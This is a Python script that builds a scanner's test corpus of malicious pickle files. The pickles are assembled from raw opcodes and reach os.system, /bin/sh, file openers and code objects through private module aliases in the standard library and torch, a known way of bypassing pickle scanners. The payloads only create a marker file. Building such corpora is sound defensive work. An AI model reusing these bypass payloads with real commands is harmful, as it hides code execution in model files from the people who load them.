#!/usr/bin/python3
"""Build testdata/scan-advisories/: ckpt's own hostile corpus (issue 34).

Run with Debian's python3 (3.11, torch 1.13):

    /usr/bin/python3 scripts/gen_scan_advisories.py [--torch-src DIR]

Two parts, each file listed in manifest.json with what it does and how its
harm shows:

  aliases     every module-level `import X as _Y` / `from M import N as _Y`
              of the standard library (this interpreter's) and of torch
              (--torch-src, the sources of torch 2.6: the chroot's
              /usr/lib/python3/dist-packages/torch), written to
              aliases.json; a payload for each alias of an unsafe module
              (random's _os, tempfile's _shutil, bz2's _builtin_open, ...)
              reached as STACK_GLOBAL(module, '_alias.name').
  advisories  the 2025-26 scanner bypasses and advisories, each rebuilt
              here from the advisory's description (not copied from a
              reproducer): picklescan, fickling, modelscan issues, CVEs.

NOTHING HERE RUNS A PAYLOAD: pickles are assembled from opcodes. Every
payload's harm is a marker: it creates ./pwned (by a shell command, a
file opener, an import of ./pwnmod.py, ...), exits with status 77, or
returns an object that names ./secret.txt. scan/advisories_test.go runs
each one in CPython in an empty temporary directory to prove that it
does its harm, and runs the benign files the same way to prove that the
marker does not appear by itself.
"""

import argparse
import ast
import json
import os
import struct
import sys
from pathlib import Path

OUT = Path(__file__).resolve().parent.parent / "testdata" / "scan-advisories"
CMD = "touch pwned"

# ---- pickle assembly ---------------------------------------------------------


def s(x):
    """A str operand (SHORT_BINUNICODE / BINUNICODE)."""
    b = x.encode()
    return (b"\x8c" + bytes([len(b)]) if len(b) < 256 else b"X" + struct.pack("<I", len(b))) + b


def by(x):
    """A bytes operand (SHORT_BINBYTES / BINBYTES)."""
    return (b"C" + bytes([len(x)]) if len(x) < 256 else b"B" + struct.pack("<I", len(x))) + x


def i(n):
    """An int operand (BININT or LONG1)."""
    if -(2**31) <= n < 2**31:
        return b"J" + struct.pack("<i", n)
    raw = n.to_bytes((n.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(raw)]) + raw


def op(x):
    """Any other operand: None, bool, a list, a dict, a tuple, or raw opcodes."""
    if x is None:
        return b"N"
    if x is True or x is False:
        return b"\x88" if x else b"\x89"
    if isinstance(x, str):
        return s(x)
    if isinstance(x, bytes):
        return by(x)
    if isinstance(x, int):
        return i(x)
    if isinstance(x, list):
        return b"](" + b"".join(op(v) for v in x) + b"e" if x else b"]"
    if isinstance(x, dict):
        return b"}(" + b"".join(op(k) + op(v) for k, v in x.items()) + b"u" if x else b"}"
    if isinstance(x, tuple):
        return b"(" + b"".join(op(v) for v in x) + b"t"
    if isinstance(x, Raw):
        return x.b
    raise TypeError(x)


class Raw:
    """Opcodes that leave one value on the stack."""

    def __init__(self, b):
        self.b = b


def sg(module, name):
    """STACK_GLOBAL(module, name): protocol 4 resolves a dotted name attribute by attribute."""
    return Raw(s(module) + s(name) + b"\x93")


def gl(module, name):
    """GLOBAL module name (protocol 0 spelling)."""
    return Raw(b"c" + module.encode() + b"\n" + name.encode() + b"\n")


def call(f, *args):
    """f(*args) by REDUCE."""
    return Raw(op(f) + op(tuple(args)) + b"R")


def pk(value, proto=4):
    """A whole pickle whose result is value."""
    return b"\x80" + bytes([proto]) + op(value) + b"."


# ---- aliases from the real sources ---------------------------------------------

SKIP_DIRS = {"test", "tests", "idlelib", "lib2to3", "site-packages", "dist-packages", "__pycache__", "testing"}


def module_aliases(root, prefix=""):
    """(module, alias, target, how, platform) for every module-level import whose alias starts with '_':
    how is "import" (import target as alias) or "from" (from M import N as alias; target M.N);
    platform is "win32" for an import under `if sys.platform == "win32"` (or os.name == 'nt'), else ""."""
    out = []
    for dp, dn, fn in os.walk(root):
        dn[:] = sorted(d for d in dn if d not in SKIP_DIRS)
        for f in sorted(fn):
            if not f.endswith(".py"):
                continue
            p = os.path.join(dp, f)
            mod = prefix + os.path.relpath(p, root)[:-3].replace(os.sep, ".")
            mod = mod[: -len(".__init__")] if mod.endswith(".__init__") else mod
            try:
                tree = ast.parse(Path(p).read_text(encoding="utf-8", errors="replace"))
            except SyntaxError:
                continue
            todo = [(n, "") for n in tree.body]
            while todo:
                n, plat = todo.pop(0)
                if isinstance(n, ast.If):
                    win = "win32" in ast.unparse(n.test) or "'nt'" in ast.unparse(n.test)
                    todo += [(x, "win32" if win else plat) for x in n.body] + [(x, plat) for x in n.orelse]
                elif isinstance(n, ast.Try):
                    todo += [(x, plat) for x in n.body + n.orelse + n.finalbody + [y for h in n.handlers for y in h.body]]
                elif isinstance(n, ast.Import):
                    out += [(mod, a.asname, a.name, "import", plat) for a in n.names if (a.asname or "").startswith("_")]
                elif isinstance(n, ast.ImportFrom) and n.module and not n.level:
                    out += [(mod, a.asname, n.module + "." + a.name, "from", plat) for a in n.names
                            if (a.asname or "").startswith("_")]
    return sorted(set(out))


# What a payload does with an alias of each unsafe target, and its marker.
# A function returns the payload value given the alias path (module, '_alias').
ALIAS_PAYLOADS = {
    "os": lambda m, a: ("creates", call(sg(m, a + ".system"), CMD)),
    "posix": lambda m, a: ("creates", call(sg(m, a + ".system"), CMD)),
    "sys": lambda m, a: ("exit", call(sg(m, a + ".exit"), 77)),
    "shutil": lambda m, a: ("creates", call(sg(m, a + ".copyfile"), "secret.txt", "pwned")),
    "io": lambda m, a: ("creates", call(sg(m, a + ".open"), "pwned", "w")),
    "builtins.open": lambda m, a: ("creates", call(sg(m, a), "pwned", "w")),
    "warnings": lambda m, a: ("creates", call(sg(m, a + "._getcategory"), "pwnmod.Warning")),
    "profile": lambda m, a: ("creates", call(sg(m, a + ".run"), "open('pwned', 'w')")),
    "socket": lambda m, a: ("returns", call(sg(m, a + ".socketpair")), "socket.socket"),
    "threading": lambda m, a: ("creates", call(sg(m, a + "._start_new_thread"), sg("bz2", "_builtin_open"),
                                               ("pwned", "w"))),
    "functools": lambda m, a: ("creates", call(call(sg(m, a + ".partial"), sg("bz2", "_builtin_open"), "pwned"), "w")),
    "types": lambda m, a: ("creates", call(call(sg(m, a + ".FunctionType"), code_object(sg(m, a + ".CodeType")), {}))),
    "_frozen_importlib": lambda m, a: ("creates", call(sg(m, a + "._gcd_import"), "pwnmod")),
    "_frozen_importlib_external": lambda m, a: ("creates", call(sg(m, a + "._bootstrap._gcd_import"), "pwnmod")),
    "multiprocessing.util": lambda m, a: ("creates", call(sg(m, a + ".spawnv_passfds"), b"/bin/sh",
                                                          [b"sh", b"-c", CMD.encode()], [])),
    "os.path": lambda m, a: ("creates", call(sg(m, a + ".os.system"), CMD)),
    "operator.itemgetter": lambda m, a: ("returns", call(call(sg(m, a), "x"), {"x": "secret.txt"}), "secret.txt"),
}


def code_object(code_type):
    """CodeType(...) of this interpreter's version for: open('pwned', 'w')."""
    c = compile("open('pwned', 'w')", "<payload>", "exec")
    fields = ["co_argcount", "co_posonlyargcount", "co_kwonlyargcount", "co_nlocals", "co_stacksize", "co_flags",
              "co_code", "co_consts", "co_names", "co_varnames", "co_filename", "co_name", "co_qualname",
              "co_firstlineno", "co_linetable", "co_exceptiontable", "co_freevars", "co_cellvars"]
    return call(code_type, *[getattr(c, f) for f in fields])


def alias_entries(aliases, where):
    out = []
    for mod, alias, target, _, plat in aliases:
        mk = ALIAS_PAYLOADS.get(target)
        if mk is None:
            continue
        proof, payload, *ret = mk(mod, alias)
        e = dict(file="aliases/%s.%s.pkl" % (mod, alias), corpus="aliases", expected="malicious",
                 upstream="%s: %s has `import %s as %s`" % (where, mod, target, alias),
                 does="%s reached as STACK_GLOBAL(%r, %r...)" % (target, mod, alias),
                 upstream_says="issue 34 item 1: rated unknown, exit 3, before", data=pk(payload),
                 proof=dict(kind=proof))
        if ret:
            e["proof"]["returns"] = ret[0]
        if plat:
            e["proof"]["platform"] = plat
        if where.startswith("torch"):
            e["proof"]["torch"] = "2.6"  # the sources listed
        else:
            e["proof"]["python"] = "%d.%d" % sys.version_info[:2]  # the standard library listed
        out.append(e)
    return out


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--torch-src", metavar="DIR", help="torch 2.6's package directory, for its aliases")
    args = ap.parse_args()
    import advisories_payloads as adv  # scripts/advisories_payloads.py
    from gen_scan_corpora import write_entries

    stdlib = os.path.dirname(os.__file__)
    where = "CPython %d.%d %s" % (sys.version_info[:2] + (stdlib,))
    aliases = [("stdlib",) + a for a in module_aliases(stdlib)]
    if args.torch_src:
        aliases += [("torch",) + a for a in module_aliases(args.torch_src, "torch.")]
    entries = alias_entries([a[1:] for a in aliases if a[0] == "stdlib"], where)
    entries += alias_entries([a[1:] for a in aliases if a[0] == "torch"], "torch 2.6 " + str(args.torch_src or ""))
    entries += adv.entries(dict(s=s, by=by, i=i, op=op, Raw=Raw, sg=sg, gl=gl, call=call, pk=pk, CMD=CMD,
                                code_object=code_object))
    OUT.mkdir(parents=True, exist_ok=True)
    for old in OUT.rglob("*"):
        if old.is_file():
            old.unlink()
    write_entries(OUT, entries)
    (OUT / "aliases.json").write_text(json.dumps(
        {"about": "module-level imports aliased to a private name: [source, module, alias, target, import|from, win32 or \"\"]",
         "aliases": [list(a) for a in aliases]}, indent=0) + "\n")
    (OUT / "manifest.json").write_text(json.dumps(
        {"about": "ckpt's own hostile corpus, built by scripts/gen_scan_advisories.py; see docs/scan-corpora.md.",
         "files": entries}, indent=1) + "\n")
    print("wrote %d files and %d aliases to %s" % (len(entries), len(aliases), OUT))


if __name__ == "__main__":
    sys.path.insert(0, str(Path(__file__).resolve().parent))
    main()
